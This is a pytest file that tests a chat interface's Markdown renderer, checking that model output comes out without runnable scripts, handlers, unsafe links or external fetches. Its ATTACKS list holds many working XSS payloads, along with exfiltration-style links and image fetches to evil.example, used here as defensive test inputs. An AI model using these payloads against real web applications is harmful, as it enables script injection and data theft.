"""A model's Markdown: rendered in full, and never anything that runs, fetches or escapes."""

from __future__ import annotations

from collections.abc import Set
from html.parser import HTMLParser

import pytest

from chat.blocks import closed_blocks
from chat.markdown import ATTRIBUTES, TAGS, render

ATTACKS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<math><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>",
    "<style>body{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>", "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>", "<video><source onerror=alert(1)></video>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>",
    "<noscript><p title=\"</noscript><script>x</script>\">", "<template><script>alert(1)</script></template>",
    "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))", "[x](java&#10;script:alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](%6aavascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](file:///etc/passwd)", "[x](blob:https://evil.example/1)",
    "[x](//evil.example/x \"t\\\" onmouseover=alert(1)\")", "[x](https://a.example/\"onmouseover=alert(1))",
    "[x](https://a.example/' onmouseover='alert(1))", "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://a.example '\"><script>alert(1)</script>'", "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>", "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif?q=secret)", "![<script>alert(1)</script>](https://evil.example/a.png)",
    "![x](https://evil.example/a.png \"\\\" onload=alert(1)\")", "![x][r]\n\n[r]: https://evil.example/a.png",
    "![x](data:image/png;base64,AAAA)", "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```",
    "```js\" onmouseover=\"alert(1)\nx\n```", "```python\n</code></pre><script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\nx\n```", "    <script>alert(1)</script>", "`<script>alert(1)</script>`",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "| a |\n|:-:onmouseover=alert(1)|\n| b |", "# <script>alert(1)</script>", "> <script>alert(1)</script>",
    "- <script>alert(1)</script>\n- <img src=x onerror=alert(1)>", "1. x\n   <iframe src=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>", "*<script>*alert(1)*</script>*", "~~<img src=x onerror=alert(1)>~~",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<<script>script>alert(1)<</script>/script>",
    "<a\u00a0href=javascript:alert(1)>x</a>", "\ufeff<script>alert(1)</script>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>", "<p style=x:expression(alert(1))>x</p>",
    "<span class=\"hl k\" onclick=alert(1)>x</span>", "<pre class=\"hl\"><code></code></pre><script>1</script>",
    "<a href=\"https://a.example\" target=_blank rel=opener>x</a>",
    "<button formaction=javascript:alert(1)>x</button>", "<x-foo onclick=alert(1)>",
    "[x](https://a.example){onclick=alert(1)}", "<!DOCTYPE html><html><head></head></html>",
]  # fmt: skip
OURS: dict[str, Set[str]] = {
    **dict.fromkeys(("div", "pre"), frozenset({"class", "tabindex", "role", "aria-label"})),
    **dict.fromkeys(("span", "td", "th"), frozenset({"class"})),
    "a": {"rel"},
}


class Reader(HTMLParser):
    """Complains about every tag, attribute and address that is not allowed, as a browser would read it."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS | {"div"}, f"<{tag}>"
        for name, value in attrs:
            allowed = ATTRIBUTES.get(tag, set()) | OURS.get(tag, set())
            assert name in allowed, f"{name} on <{tag}>"
            if name == "href":
                assert value and value.split(":", 1)[0] in ("http", "https", "mailto"), value
            if tag in ("span", "td", "th"):
                assert value in ("k", "s", "c", "n", "f", "num")

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration")

    def handle_pi(self, data: str) -> None:
        raise AssertionError("a processing instruction")


def check(html: str) -> None:
    reader = Reader(convert_charrefs=True)
    reader.feed(html)
    reader.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_harmless_text(attack: str) -> None:
    check(render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nor_does_it_work_inside_other_blocks_or_while_it_streams(attack: str) -> None:
    indented = attack.replace("\n", "\n  ")
    text = f"# Title\n\n> {attack}\n\n- item\n\n  {indented}\n\n| a |\n|---|\n| {attack} |\n\n**{attack}**\n\nend\n\nx"
    check(render(text))
    start, shown = 0, ""
    for length in range(0, len(text) + 1, 3):
        html, start = closed_blocks(text[:length], start)
        shown += html
    check(shown)


def test_no_picture_is_fetched_it_is_a_link() -> None:
    html = render("![a chart](https://elsewhere.example/a.png)")
    assert "<img" not in html
    assert '<a href="https://elsewhere.example/a.png" rel="noopener noreferrer nofollow">a chart</a>' in html


def test_headings_stay_below_those_of_the_page() -> None:
    html = render("# One\n## Two\n### Three\n#### Four")
    assert "<h3>One</h3>" in html and "<h3>Two</h3>" in html and "<h4>Three</h4>" in html and "<h5>Four</h5>" in html


def test_code_is_highlighted_and_named() -> None:
    html = render("```python\nimport os  # why\n```")
    assert '<div class="code__bar"><span>python</span></div>' in html
    assert '<span class="k">import</span>' in html and '<span class="c"># why</span>' in html


def test_code_of_an_unknown_language_is_plain() -> None:
    assert "<code>a &lt; b\n</code>" in render("```nosuchlanguage\na < b\n```")


def test_a_table_scrolls_by_itself_and_keeps_its_alignment() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert html.count('class="tablewrap" tabindex="0"') == 1
    assert '<td class="num">2</td>' in html and "style" not in html


def test_chinese_emphasis_and_strikethrough() -> None:
    assert render("**重要**的事，~~作废~~") == "<p><strong>重要</strong>的事，<s>作废</s></p>\n"


DOCUMENT = """# Plan

First paragraph
goes on here.

1. one
2. two

   still two

3. three

Setext
---

| a | b |
|---|---|
| 1 | 2 |

- x
  - y

```python
def f():

    return 1
```

> quote
lazy line

    indented code

last"""


@pytest.mark.parametrize("step", [1, 2, 3, 7, 50])
def test_blocks_that_were_closed_while_streaming_are_those_of_the_whole(step: int) -> None:
    start, shown = 0, ""
    for length in [*range(0, len(DOCUMENT), step), len(DOCUMENT)]:
        html, upto = closed_blocks(DOCUMENT[:length], start)
        assert upto >= start
        shown, start = shown + html, upto
    assert shown == render(DOCUMENT[:start])
    assert DOCUMENT[start:].strip() == "indented code\n\nlast"


@pytest.mark.parametrize(
    "address", ["http:settings/", "http:/sign-out/", "HTTP:?q=x", "https:#x", "http:", "/chat/", "x"]
)
def test_a_link_never_leads_to_a_page_of_ours(address: str) -> None:
    """A browser reads "http:settings/" on a page of ours as an address of the same site."""
    assert "href" not in render(f"[x]({address})") and "href" not in render(f"[x](<{address}>)")
